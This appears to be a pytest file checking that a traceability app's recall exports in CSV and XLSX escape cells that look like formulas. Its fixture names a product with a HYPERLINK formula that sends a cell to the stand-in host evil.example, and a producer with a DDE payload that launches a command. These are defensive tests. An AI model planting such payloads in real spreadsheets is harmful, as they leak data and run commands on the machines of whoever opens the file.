"""Recall exports write what people typed as text: a product or an organisation named like a
formula stays a string in the regulator's spreadsheet, in CSV and XLSX, direct or as a job."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.api.test_events_api import post
from tests.api.test_trace_recall_api import recall
from tests.factories import certificate_body
from tests.jobs import run_queued
from traceapp.orgs.models import OrgKind
from traceapp.spreadsheets import text_cell

PRODUCT = '=HYPERLINK("https://evil.example/?d="&A2,"详情")'
PRODUCER = "@SUM(1+1)*cmd|' /C calc'!A0"
LOCATION = "-2+3"


@pytest.fixture()
def hostile(client, make):
    """A recall of a batch whose product, producer and storage place look like formulas."""
    producer = make.member(name=PRODUCER)
    regulator = make.member(OrgKind.REGULATOR)
    body = certificate_body(product_name=PRODUCT)
    issued = client.post("/api/v1/certificates", json=body, headers=producer.headers)
    assert issued.status_code == 201, issued.json
    stored = post(client, producer, kind="storing", trace_code=issued.json["trace_code"], location=LOCATION)
    assert stored.status_code == 201, stored.json
    opened = recall(client, regulator, [issued.json["trace_code"]])
    assert opened.status_code == 201, opened.json
    run_queued(client.application)
    return regulator, opened.json["id"]


def test_csv_cells_that_look_like_formulas_start_with_an_apostrophe(client, hostile):
    regulator, recall_id = hostile
    text = client.get(f"/api/v1/recalls/{recall_id}/export.csv", headers=regulator.headers).get_data(True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = {cell for row in rows[1:] for cell in row}
    assert {"'" + PRODUCT, "'" + PRODUCER, "'" + LOCATION} <= cells
    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]


def test_xlsx_cells_that_look_like_formulas_are_strings_not_formulas(client, hostile):
    regulator, recall_id = hostile
    started = client.post(
        f"/api/v1/recalls/{recall_id}/exports", json={"format": "xlsx"}, headers=regulator.headers
    )
    run_queued(client.application)
    job = client.get(started.json["url"], headers=regulator.headers).json
    direct = client.get(f"/api/v1/recalls/{recall_id}/export.xlsx", headers=regulator.headers).data
    assert client.get(job["download_url"], headers=regulator.headers).data == direct
    sheet = load_workbook(io.BytesIO(direct)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert {"'" + PRODUCT, "'" + PRODUCER, "'" + LOCATION} <= values
    assert not [v for v in values if isinstance(v, str) and v and v[0] in "=+-@\t\r"]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_text_cell_prefixes_what_a_spreadsheet_would_run(value):
    assert text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["大白菜", "", "a=1", " =1", "'=1", "2026-11-20", 500, None])
def test_text_cell_leaves_everything_else_as_it_is(value):
    assert text_cell(value) == value
